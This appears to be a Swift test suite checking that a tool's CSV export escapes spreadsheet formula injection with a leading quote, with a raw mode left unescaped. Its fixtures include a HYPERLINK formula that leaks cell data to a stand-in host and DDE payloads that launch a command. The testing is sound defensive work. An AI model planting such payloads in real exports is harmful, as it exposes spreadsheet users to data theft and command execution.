import Doppel
import Foundation
import Testing

/// The cluster CSV never hands a spreadsheet a formula: cells that begin with `=`, `+`, `-`,
/// `@`, a tab or a carriage return get a leading `'` (OWASP), unless `--csv-raw`.
@Suite struct ClusterCSVTests {
    static let ids = [
        #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3", "\tstart", "\rreturn", "plain id",
    ]

    private static func run(_ extra: [String]) throws -> [String] {
        let scratch = try Scratch("csv")
        var random = SplitMix64(seed: 3)
        let text = random.han(400)
        var lines = ""
        for (n, id) in ids.enumerated() {
            let record = try JSONSerialization.data(withJSONObject: [
                "id": id, "text": text + String(repeating: "甲", count: n),
            ])
            lines += String(decoding: record, as: UTF8.self) + "\n"
        }
        let jsonl = try scratch.write("in.jsonl", text: lines)
        let result = try DoppelProcess.run(["cluster", "-f", "csv", "--jsonl", jsonl] + extra)
        #expect(result.status == 1, "\(result.stderr)")
        return result.stdout.components(separatedBy: "\n")
    }

    @Test func cellsThatAreFormulasAreWrittenAsText() throws {
        let rows = try Self.run([])
        #expect(rows[0] == "cluster,id,path,title,chars,representative,similarity")
        let body = rows.dropFirst().joined(separator: "\n")
        #expect(body.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","#))
        #expect(body.contains(",'+cmd|' /C calc'!A0,"))
        #expect(body.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"))
        #expect(body.contains(",'-2+3,"))
        #expect(body.contains(",'\tstart,"))
        #expect(body.contains(",\"'\rreturn\","))
        #expect(body.contains(",plain id,"))
        // No cell of a row begins with a formula character.
        for row in rows.dropFirst() where !row.isEmpty {
            for cell in row.split(separator: ",", omittingEmptySubsequences: false) {
                #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "\(row)")
            }
        }
    }

    @Test func csvRawKeepsTheCellsAsTheyAre() throws {
        let body = try Self.run(["--csv-raw"]).dropFirst().joined(separator: "\n")
        #expect(body.contains(",+cmd|' /C calc'!A0,"))
        #expect(body.contains(",@SUM(1+1)*cmd|' /C calc'!A0,"))
        #expect(!body.contains("'+cmd"))
    }
}
